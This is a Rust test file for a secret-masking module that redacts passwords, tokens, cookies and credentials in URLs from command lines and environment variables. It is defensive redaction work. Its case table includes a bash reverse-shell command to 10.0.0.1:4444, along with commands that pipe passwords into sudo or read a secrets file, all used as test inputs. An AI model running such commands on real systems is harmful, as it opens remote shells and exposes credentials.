//! The table of cases: what is masked, and what is near to it and is not.

use super::*;
use proptest::prelude::*;

fn masked(words: &[&str], more: &[&str]) -> Vec<String> {
    let more: Vec<String> = more.iter().map(|name| (*name).to_owned()).collect();
    let mut values: Vec<String> = words.iter().map(|word| (*word).to_owned()).collect();
    let before = values.clone();
    let told = Masker::new(&more).arguments(&mut values);
    assert_eq!(told, before != values, "{words:?}");
    values
}

/// Arguments are separated by ` ¦ `; in the second column every `***` is where the mask has to be.
const CASES: &[(&str, &str)] = &[
    // Long flags.
    ("app ¦ --password ¦ hunter2 ¦ run", "app ¦ --password ¦ *** ¦ run"),
    ("app ¦ --password=hunter2", "app ¦ --password=***"),
    ("app ¦ --db-password=hun=ter2", "app ¦ --db-password=***"),
    ("app ¦ --api_key ¦ k ¦ --token ¦ t", "app ¦ --api_key ¦ *** ¦ --token ¦ ***"),
    ("app ¦ --client-secret ¦ -hunter2", "app ¦ --client-secret ¦ ***"),
    ("app ¦ -password ¦ hunter2", "app ¦ -password ¦ ***"),
    ("gpg ¦ --passphrase ¦ two words", "gpg ¦ --passphrase ¦ ***"),
    ("keytool ¦ -storepass ¦ a ¦ -keypass ¦ b", "keytool ¦ -storepass ¦ *** ¦ -keypass ¦ ***"),
    ("wget ¦ --http-password=x ¦ https://h/", "wget ¦ --http-password=*** ¦ https://h/"),
    ("curl ¦ --oauth2-bearer ¦ x", "curl ¦ --oauth2-bearer ¦ ***"),
    (
        "java ¦ -Djavax.net.ssl.trustStorePassword=x ¦ -jar ¦ a.jar",
        "java ¦ -Djavax.net.ssl.trustStorePassword=*** ¦ -jar ¦ a.jar",
    ),
    // Flags that ask, or name a file.
    ("app ¦ --password-file ¦ /x", "app ¦ --password-file ¦ /x"),
    ("app ¦ --password-file=/x", "app ¦ --password-file=/x"),
    ("docker ¦ login ¦ --password-stdin ¦ host", "docker ¦ login ¦ --password-stdin ¦ host"),
    ("psql ¦ --no-password ¦ db", "psql ¦ --no-password ¦ db"),
    ("ansible ¦ --ask-pass ¦ all", "ansible ¦ --ask-pass ¦ all"),
    ("mysql ¦ --password ¦ --user=x", "mysql ¦ --password ¦ --user=x"),
    ("app ¦ --password ¦ -v", "app ¦ --password ¦ -v"),
    ("app ¦ --password=", "app ¦ --password="),
    ("app ¦ --password", "app ¦ --password"),
    ("app ¦ --tokenize ¦ text", "app ¦ --tokenize ¦ text"),
    (
        "app ¦ --max-tokens ¦ 80 ¦ --compass ¦ n ¦ --bypass ¦ x",
        "app ¦ --max-tokens ¦ 80 ¦ --compass ¦ n ¦ --bypass ¦ x",
    ),
    ("app ¦ --use-token=true", "app ¦ --use-token=true"),
    // Settings.
    ("env ¦ PGPASSWORD=hunter2 ¦ psql", "env ¦ PGPASSWORD=*** ¦ psql"),
    (
        "env ¦ MYSQL_PWD=x ¦ DB_PASS=y ¦ AWS_SECRET_ACCESS_KEY=z",
        "env ¦ MYSQL_PWD=*** ¦ DB_PASS=*** ¦ AWS_SECRET_ACCESS_KEY=***",
    ),
    ("env ¦ PASSWORD=my pass word", "env ¦ PASSWORD=***"),
    (
        "docker ¦ run ¦ -e ¦ API_TOKEN=x ¦ --env=KEY_SECRET=y ¦ i",
        "docker ¦ run ¦ -e ¦ API_TOKEN=*** ¦ --env=KEY_SECRET=*** ¦ i",
    ),
    ("helm ¦ --set ¦ a=1,db.password=x\\,y,b=2", "helm ¦ --set ¦ a=1,db.password=***,b=2"),
    ("app ¦ Server=h;Password=x;Database=d", "app ¦ Server=h;Password=***;Database=d"),
    ("psql ¦ host=h password=x dbname=d", "psql ¦ host=h password=*** dbname=d"),
    (
        "npm ¦ config ¦ set ¦ //registry.npmjs.org/:_authToken=x",
        "npm ¦ config ¦ set ¦ //registry.npmjs.org/:_authToken=***",
    ),
    (
        "env ¦ PASSWORD_MIN=8 ¦ PWD=/root ¦ OLDPWD=/ ¦ TOKENIZERS=no",
        "env ¦ PASSWORD_MIN=8 ¦ PWD=/root ¦ OLDPWD=/ ¦ TOKENIZERS=no",
    ),
    (
        "env ¦ AWS_ACCESS_KEY_ID=AKIA1 ¦ PASSWORD_FILE=/x ¦ TOKEN_URL=u",
        "env ¦ AWS_ACCESS_KEY_ID=AKIA1 ¦ PASSWORD_FILE=/x ¦ TOKEN_URL=u",
    ),
    // URLs.
    ("psql ¦ postgresql://u:hunter2@h:5432/d", "psql ¦ postgresql://u:***@h:5432/d"),
    ("git ¦ clone ¦ https://u:p@ss@h/r.git", "git ¦ clone ¦ https://u:***@h/r.git"),
    ("git ¦ clone ¦ https://ghp_0123456789abcdefghij@github.com/r", "git ¦ clone ¦ https://***@github.com/r"),
    ("redis-cli ¦ -u ¦ redis://:x@h", "redis-cli ¦ -u ¦ redis://:***@h"),
    ("app ¦ amqp://u:a/b@h/v", "app ¦ amqp://u:***@h/v"),
    ("app ¦ jdbc:mysql://h/d?user=u&password=x&ssl=1", "app ¦ jdbc:mysql://h/d?user=u&password=***&ssl=1"),
    ("curl ¦ https://h/?token=x#y", "curl ¦ https://h/?token=***#y"),
    ("app ¦ a=http://u:x@h,b=ftp://v:y@i", "app ¦ a=http://u:***@h,b=ftp://v:***@i"),
    (
        "curl ¦ http://h:8080/a@b ¦ http://[::1]:80/@ ¦ ssh://git@h/r",
        "curl ¦ http://h:8080/a@b ¦ http://[::1]:80/@ ¦ ssh://git@h/r",
    ),
    ("scp ¦ user@host:/path/x ¦ .", "scp ¦ user@host:/path/x ¦ ."),
    // Headers and documents.
    ("curl ¦ -H ¦ Authorization: Bearer abc.def ¦ https://h", "curl ¦ -H ¦ Authorization: Bearer *** ¦ https://h"),
    ("curl ¦ -HAuthorization: Basic YTpi", "curl ¦ -HAuthorization: Basic ***"),
    ("curl ¦ -H ¦ authorization: x y", "curl ¦ -H ¦ authorization: ***"),
    ("curl ¦ -H ¦ X-Api-Key: x ¦ -H ¦ Accept: text/plain", "curl ¦ -H ¦ X-Api-Key: *** ¦ -H ¦ Accept: text/plain"),
    ("curl ¦ -H ¦ Cookie: a=b; c=d", "curl ¦ -H ¦ Cookie: ***"),
    ("http ¦ h ¦ Authorization:Bearer x", "http ¦ h ¦ Authorization:Bearer ***"),
    (
        "curl ¦ -d ¦ {\"user\":\"u\",\"password\":\"x\",\"n\":1}",
        "curl ¦ -d ¦ {\"user\":\"u\",\"password\":\"***\",\"n\":1}",
    ),
    ("curl ¦ -d ¦ {\"password\": \"x y\", \"user\": \"u\"}", "curl ¦ -d ¦ {\"password\": \"***\", \"user\": \"u\"}"),
    ("curl ¦ -d ¦ user=u&password=x&a=b", "curl ¦ -d ¦ user=u&password=***&a=b"),
    (
        "docker ¦ run ¦ -v ¦ /etc/secret:/etc/secret ¦ img/token:1.2",
        "docker ¦ run ¦ -v ¦ /etc/secret:/etc/secret ¦ img/token:1.2",
    ),
    ("git ¦ commit ¦ -m ¦ fix password: it was too short", "git ¦ commit ¦ -m ¦ fix password: it was too short"),
    // Tools.
    ("mysql ¦ -uroot ¦ -phunter2 ¦ db", "mysql ¦ -uroot ¦ -p*** ¦ db"),
    ("/usr/bin/mysqldump ¦ -p ¦ db", "/usr/bin/mysqldump ¦ -p ¦ db"),
    ("sudo ¦ mysql ¦ -px", "sudo ¦ mysql ¦ -p***"),
    ("sshpass ¦ -p ¦ hunter2 ¦ ssh ¦ h", "sshpass ¦ -p ¦ *** ¦ ssh ¦ h"),
    ("sshpass ¦ -phunter2 ¦ ssh ¦ -p ¦ 22 ¦ h", "sshpass ¦ -p*** ¦ ssh ¦ -p ¦ 22 ¦ h"),
    ("curl ¦ -u ¦ user:hunter2 ¦ https://h", "curl ¦ -u ¦ user:*** ¦ https://h"),
    ("curl ¦ -sSu ¦ user:x ¦ -uuser:y ¦ --user=user:z", "curl ¦ -sSu ¦ user:*** ¦ -uuser:*** ¦ --user=user:***"),
    ("curl ¦ --proxy-user ¦ u:x ¦ -U ¦ u:y", "curl ¦ --proxy-user ¦ u:*** ¦ -U ¦ u:***"),
    ("curl ¦ -u ¦ user ¦ -o ¦ x", "curl ¦ -u ¦ user ¦ -o ¦ x"),
    ("docker ¦ login ¦ -u ¦ u ¦ -p ¦ x ¦ reg", "docker ¦ login ¦ -u ¦ u ¦ -p ¦ *** ¦ reg"),
    ("docker ¦ run ¦ -p ¦ 80:80 ¦ nginx", "docker ¦ run ¦ -p ¦ 80:80 ¦ nginx"),
    ("redis-cli ¦ -a ¦ x ¦ ping", "redis-cli ¦ -a ¦ *** ¦ ping"),
    ("ldapsearch ¦ -x ¦ -w ¦ s ¦ -b ¦ dc=x", "ldapsearch ¦ -x ¦ -w ¦ *** ¦ -b ¦ dc=x"),
    ("ldapsearch ¦ -W ¦ -b ¦ dc=x", "ldapsearch ¦ -W ¦ -b ¦ dc=x"),
    ("smbclient ¦ //h/s ¦ -U ¦ u%x", "smbclient ¦ //h/s ¦ -U ¦ u%***"),
    ("smbclient ¦ -U ¦ u ¦ //h/s", "smbclient ¦ -U ¦ u ¦ //h/s"),
    ("openssl ¦ rsa ¦ -passin ¦ pass:x ¦ -check ¦ -noout", "openssl ¦ rsa ¦ -passin ¦ pass:*** ¦ -check ¦ -noout"),
    ("openssl ¦ enc ¦ -k ¦ x ¦ -in ¦ f", "openssl ¦ enc ¦ -k ¦ *** ¦ -in ¦ f"),
    ("mongosh ¦ -u ¦ u ¦ -p ¦ x", "mongosh ¦ -u ¦ u ¦ -p ¦ ***"),
    ("sqlcmd ¦ -U ¦ sa ¦ -P ¦ x", "sqlcmd ¦ -U ¦ sa ¦ -P ¦ ***"),
    ("sqlplus ¦ -s ¦ scott/tiger@db ¦ @script/a.sql", "sqlplus ¦ -s ¦ scott/***@db ¦ @script/a.sql"),
    ("7z ¦ x ¦ -psecret ¦ a.7z", "7z ¦ x ¦ -p*** ¦ a.7z"),
    ("lftp ¦ -u ¦ u,x ¦ h", "lftp ¦ -u ¦ u,*** ¦ h"),
    ("xfreerdp ¦ /u:u ¦ /p:x ¦ /v:h", "xfreerdp ¦ /u:u ¦ /p:*** ¦ /v:h"),
    ("snmpget ¦ -v2c ¦ -c ¦ public ¦ h", "snmpget ¦ -v2c ¦ -c ¦ *** ¦ h"),
    ("ssh-keygen ¦ -t ¦ rsa ¦ -N ¦ x", "ssh-keygen ¦ -t ¦ rsa ¦ -N ¦ ***"),
    ("nmcli ¦ dev ¦ wifi ¦ connect ¦ net1 ¦ password ¦ x", "nmcli ¦ dev ¦ wifi ¦ connect ¦ net1 ¦ password ¦ ***"),
    ("aws ¦ configure ¦ set ¦ aws_secret_access_key ¦ x", "aws ¦ configure ¦ set ¦ aws_secret_access_key ¦ ***"),
    ("skopeo ¦ copy ¦ --dest-creds=u:x ¦ a ¦ b", "skopeo ¦ copy ¦ --dest-creds=u:*** ¦ a ¦ b"),
    ("redis-server ¦ --port ¦ 6379 ¦ --requirepass ¦ x", "redis-server ¦ --port ¦ 6379 ¦ --requirepass ¦ ***"),
    ("redis-server ¦ --masterauth ¦ x ¦ --appendonly ¦ yes", "redis-server ¦ --masterauth ¦ *** ¦ --appendonly ¦ yes"),
    ("redis-cli ¦ config ¦ set ¦ requirepass ¦ x", "redis-cli ¦ config ¦ set ¦ requirepass ¦ ***"),
    ("mysqladmin ¦ -u ¦ root ¦ password ¦ x", "mysqladmin ¦ -u ¦ root ¦ password ¦ ***"),
    ("mysqladmin ¦ -px ¦ status", "mysqladmin ¦ -p*** ¦ status"),
    ("mysqladmin ¦ -u ¦ root ¦ -p ¦ status", "mysqladmin ¦ -u ¦ root ¦ -p ¦ status"),
    ("htpasswd ¦ -b ¦ /etc/users ¦ u ¦ x", "htpasswd ¦ -b ¦ /etc/users ¦ u ¦ ***"),
    ("htpasswd ¦ -cbB ¦ /etc/users ¦ mysql ¦ a=b", "htpasswd ¦ -cbB ¦ /etc/users ¦ mysql ¦ ***"),
    ("htpasswd ¦ -nb ¦ u ¦ x", "htpasswd ¦ -nb ¦ u ¦ ***"),
    ("htpasswd ¦ -n ¦ -b ¦ u ¦ x", "htpasswd ¦ -n ¦ -b ¦ u ¦ ***"),
    ("htpasswd ¦ -b ¦ -C ¦ 12 ¦ f ¦ u ¦ x", "htpasswd ¦ -b ¦ -C ¦ 12 ¦ f ¦ *** ¦ ***"),
    ("htpasswd ¦ -c ¦ /etc/users ¦ u", "htpasswd ¦ -c ¦ /etc/users ¦ u"),
    ("htpasswd ¦ -n ¦ u", "htpasswd ¦ -n ¦ u"),
    ("rabbitmqctl ¦ -n ¦ node ¦ add_user ¦ u ¦ x", "rabbitmqctl ¦ -n ¦ node ¦ add_user ¦ u ¦ ***"),
    (
        "docker ¦ exec ¦ c ¦ rabbitmqctl ¦ change_password ¦ u ¦ x",
        "docker ¦ exec ¦ c ¦ rabbitmqctl ¦ change_password ¦ u ¦ ***",
    ),
    ("rabbitmqctl ¦ set_permissions ¦ u ¦ a ¦ b ¦ c", "rabbitmqctl ¦ set_permissions ¦ u ¦ a ¦ b ¦ c"),
    ("sh ¦ -c ¦ rabbitmqctl add_user u x && ls a b", "sh ¦ -c ¦ rabbitmqctl add_user u *** && ls a b"),
    ("mc ¦ alias ¦ set ¦ s3 ¦ https://h ¦ KEY ¦ x", "mc ¦ alias ¦ set ¦ s3 ¦ https://h ¦ KEY ¦ ***"),
    ("mc ¦ admin ¦ user ¦ add ¦ s3 ¦ u ¦ x", "mc ¦ admin ¦ user ¦ add ¦ s3 ¦ u ¦ ***"),
    ("mc ¦ alias ¦ list ¦ s3", "mc ¦ alias ¦ list ¦ s3"),
    ("mc ¦ cp ¦ -r ¦ a ¦ b ¦ c ¦ d ¦ s3/set", "mc ¦ cp ¦ -r ¦ a ¦ b ¦ c ¦ d ¦ s3/set"),
    ("vault ¦ login ¦ hvs.x", "vault ¦ login ¦ ***"),
    (
        "vault ¦ login ¦ -method=userpass ¦ username=u ¦ password=x",
        "vault ¦ login ¦ -method=userpass ¦ username=u ¦ password=***",
    ),
    ("vault ¦ login ¦ -no-print", "vault ¦ login ¦ -no-print"),
    ("vault ¦ kv ¦ get ¦ secret/login", "vault ¦ kv ¦ get ¦ secret/login"),
    ("app ¦ --basic-auth ¦ u:x ¦ --auth=u:y ¦ -v", "app ¦ --basic-auth ¦ u:*** ¦ --auth=u:*** ¦ -v"),
    ("app ¦ --auth ¦ https://u:x@h/", "app ¦ --auth ¦ https://u:***@h/"),
    ("initdb ¦ --auth=md5 ¦ --auth-host ¦ a:b", "initdb ¦ --auth=md5 ¦ --auth-host ¦ a:b"),
    ("app ¦ --auth ¦ none ¦ --auth ¦ https://h:8443/ ¦ a:b", "app ¦ --auth ¦ none ¦ --auth ¦ https://h:8443/ ¦ a:b"),
    ("curl ¦ -b ¦ session=x; user=u ¦ https://h", "curl ¦ -b ¦ session=*** ¦ https://h"),
    ("curl ¦ -sb ¦ session=x ¦ --cookie=a=b", "curl ¦ -sb ¦ session=*** ¦ --cookie=a=***"),
    ("curl ¦ -b ¦ cookies.txt ¦ -c ¦ jar=1 ¦ https://h", "curl ¦ -b ¦ cookies.txt ¦ -c ¦ jar=1 ¦ https://h"),
    ("azcopy ¦ cp ¦ a ¦ https://h/c?sv=1&sig=x%3D&se=2", "azcopy ¦ cp ¦ a ¦ https://h/c?sv=1&sig=***&se=2"),
    (
        "curl ¦ https://h/o?X-Amz-Credential=K&X-Amz-Signature=x&e=1",
        "curl ¦ https://h/o?X-Amz-Credential=K&X-Amz-Signature=***&e=1",
    ),
    (
        "app ¦ X-Amz-Signature=x ¦ https://h/?Expires=1&Signature=y",
        "app ¦ X-Amz-Signature=*** ¦ https://h/?Expires=1&Signature=***",
    ),
    (
        "app ¦ sig=11 ¦ --signature=a.sig ¦ https://h/?design=x",
        "app ¦ sig=11 ¦ --signature=a.sig ¦ https://h/?design=x",
    ),
    (
        "openvpn ¦ --config ¦ c ¦ --auth-user-pass ¦ /etc/vpn/login",
        "openvpn ¦ --config ¦ c ¦ --auth-user-pass ¦ /etc/vpn/login",
    ),
    (
        "openvpn ¦ --http-proxy-user-pass ¦ /x ¦ --askpass ¦ /y",
        "openvpn ¦ --http-proxy-user-pass ¦ /x ¦ --askpass ¦ /y",
    ),
    // What one command writes into another.
    ("sh ¦ -c ¦ echo x | sudo -S id", "sh ¦ -c ¦ echo *** | sudo -S id"),
    ("sh ¦ -c ¦ echo -n 'x y' |/usr/bin/sudo -u u -kS id", "sh ¦ -c ¦ echo -n '***' |/usr/bin/sudo -u u -kS id"),
    (
        "sh ¦ -c ¦ printf '%s\\n' x | docker login --password-stdin h",
        "sh ¦ -c ¦ printf '%s\\n' *** | docker login --password-stdin h",
    ),
    (
        "sh ¦ -c ¦ echo u:x | chpasswd; echo x | passwd --stdin u",
        "sh ¦ -c ¦ echo *** | chpasswd; echo *** | passwd --stdin u",
    ),
    ("sh ¦ -c ¦ ssh h \"echo x | sudo -S id\"", "sh ¦ -c ¦ ssh h \"echo *** | sudo -S id\""),
    ("sh ¦ -c ¦ echo 1 | sudo tee /proc/sys/x", "sh ¦ -c ¦ echo 1 | sudo tee /proc/sys/x"),
    ("sh ¦ -c ¦ echo x; sudo -S id", "sh ¦ -c ¦ echo x; sudo -S id"),
    ("sh ¦ -c ¦ echo x || sudo -S id", "sh ¦ -c ¦ echo x || sudo -S id"),
    ("sh ¦ -c ¦ echo x | sort -S 1M", "sh ¦ -c ¦ echo x | sort -S 1M"),
    // The same flags of others.
    ("nmap ¦ -p ¦ 80 ¦ h", "nmap ¦ -p ¦ 80 ¦ h"),
    ("ssh ¦ -p ¦ 2222 ¦ u@h", "ssh ¦ -p ¦ 2222 ¦ u@h"),
    ("ps ¦ -u ¦ root:x", "ps ¦ -u ¦ root:x"),
    ("grep ¦ -a ¦ x ¦ f", "grep ¦ -a ¦ x ¦ f"),
    ("kubectl ¦ get ¦ secret ¦ name", "kubectl ¦ get ¦ secret ¦ name"),
    ("passwd ¦ root", "passwd ¦ root"),
    ("cat ¦ /run/secrets/password", "cat ¦ /run/secrets/password"),
    // Command lines within command lines.
    ("sh ¦ -c ¦ mysql -uroot -phunter2 db | gzip -p 2", "sh ¦ -c ¦ mysql -uroot -p*** db | gzip -p 2"),
    ("sh ¦ -c ¦ PASSWORD=x ./run --all", "sh ¦ -c ¦ PASSWORD=*** ./run --all"),
    (
        "bash ¦ -lc ¦ export TOKEN='a b'; curl -H \"Authorization: Bearer x\" https://h",
        "bash ¦ -lc ¦ export TOKEN=***; curl -H \"Authorization: Bearer ***\" https://h",
    ),
    ("sh ¦ -c ¦ ssh h 'sshpass -p x ssh i'", "sh ¦ -c ¦ ssh h 'sshpass -p *** ssh i'"),
    ("sh ¦ -c ¦ a \"b 'c \\\"d --password x\\\"'\"", "sh ¦ -c ¦ a \"b 'c \\\"d --password ***'\""),
    ("ssh ¦ h ¦ redis-cli -a x ping; echo it's -a y", "ssh ¦ h ¦ redis-cli -a *** ping; echo it's -a y"),
    ("sh ¦ -c ¦ curl -d '{\"token\": \"x y\"}' h", "sh ¦ -c ¦ curl -d '{\"token\": \"***\"}' h"),
    ("sh ¦ -c ¦ app --password; rm x", "sh ¦ -c ¦ app --password; rm x"),
    ("myapp: worker --token x idle", "myapp: worker --token *** idle"),
    ("bash ¦ -c ¦ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "bash ¦ -c ¦ bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
    // Text of any kind.
    ("app ¦  ¦ ü ¦ --password ¦ pässwörd ü", "app ¦  ¦ ü ¦ --password ¦ ***"),
    ("app ¦ \\xFF\\xFE ¦ PASSWORD=\\xFF", "app ¦ \\xFF\\xFE ¦ PASSWORD=***"),
];

#[test]
fn secrets_are_masked_and_nothing_else() {
    let mut failed = Vec::new();
    for (given, expected) in CASES {
        let words: Vec<_> = given.split(" ¦ ").collect();
        let found = masked(&words, &[]).join(" ¦ ");
        if found != *expected {
            failed.push(format!("given    {given}\nexpected {expected}\nfound    {found}"));
        }
    }
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}

#[test]
fn what_is_masked_stays_as_it_is() {
    for (_, expected) in CASES {
        let words: Vec<_> = expected.split(" ¦ ").collect();
        assert_eq!(masked(&words, &[]).join(" ¦ "), *expected);
    }
}

#[test]
fn an_operator_adds_names() {
    assert_eq!(masked(&["app", "--pin", "1", "Customer-Code=7"], &[]), ["app", "--pin", "1", "Customer-Code=7"]);
    let more = ["pin", "customer_code"];
    assert_eq!(masked(&["app", "--pin", "1", "Customer-Code=7"], &more), ["app", "--pin", "***", "Customer-Code=***"]);
}

#[test]
fn a_masker_that_is_off_masks_nothing() {
    let mut values = ["--password".to_owned(), "x".to_owned()];
    assert!(!Masker::off().arguments(&mut values));
    assert_eq!(values, ["--password", "x"]);
}

#[test]
fn variables_are_masked_by_their_name_and_their_value() {
    let masker = Masker::new(&[]);
    let variable = |name: &str, value: &str| {
        let mut value = value.to_owned();
        masker.variable(name, &mut value).then_some(value)
    };
    assert_eq!(variable("DB_PASSWORD", "x").as_deref(), Some("***"));
    assert_eq!(variable("LD_PRELOAD", "http://u:x@h").as_deref(), Some("http://u:***@h"));
    assert_eq!(variable("SSH_CONNECTION", "10.0.0.1 22 10.0.0.2 22"), None);
    assert_eq!(variable("LD_LIBRARY_PATH", "/opt/secret:/opt/token"), None);
}

#[test]
fn hostile_text_takes_linear_time() {
    // Each would take minutes if any part were looked at again for each other part.
    let size = 2 << 20;
    for part in [
        "://a:b",
        "=",
        "\"'",
        "password=",
        "a://",
        ":",
        "\":",
        "(",
        "\\",
        " x",
        "--password ",
        "'a '",
        "\"token\":",
        "@",
        "&x=",
        ",token=\\,",
        "echo a | sudo -S ",
        "htpasswd -b ",
        "--auth a:",
    ] {
        let mut values = vec![part.repeat(size / part.len())];
        Masker::new(&[]).arguments(&mut values);
        let mut many: Vec<String> = std::iter::repeat_n(part.to_owned(), size / 16).collect();
        Masker::new(&[]).arguments(&mut many);
    }
}

proptest! {
    #[test]
    fn any_text_is_read_without_a_panic(values: Vec<String>) {
        let mut values = values;
        Masker::new(&[]).arguments(&mut values);
    }

    #[test]
    fn text_of_these_pieces_is_read_without_a_panic(
        pieces in prop::collection::vec(prop::sample::select(vec![
            "'", "\"", "\\", " ", "=", ":", "://", "@", "/", "password", "-p", "--token", "mysql", "curl", "-u", "ü", "{", "}",
            "sudo -S", "echo ", "|", "htpasswd", "-b", "--auth", ",", ";", "Authorization:", "Bearer", "&", "?", "sqlplus", "pass:", "\n",
        ]), 0..24),
        split: bool,
    ) {
        let mut values: Vec<String> =
            if split { pieces.iter().map(|piece| (*piece).to_owned()).collect() } else { vec![pieces.concat()] };
        Masker::new(&[]).arguments(&mut values);
    }

    #[test]
    fn a_secret_behind_a_flag_is_nowhere(secret in "[a-zA-Z0-9][a-zA-Z0-9 /:=@'\"]{7,40}") {
        let mut values = vec!["app".to_owned(), "--password".to_owned(), secret, "end".to_owned()];
        Masker::new(&[]).arguments(&mut values);
        prop_assert_eq!(values, ["app", "--password", "***", "end"]);
    }
}
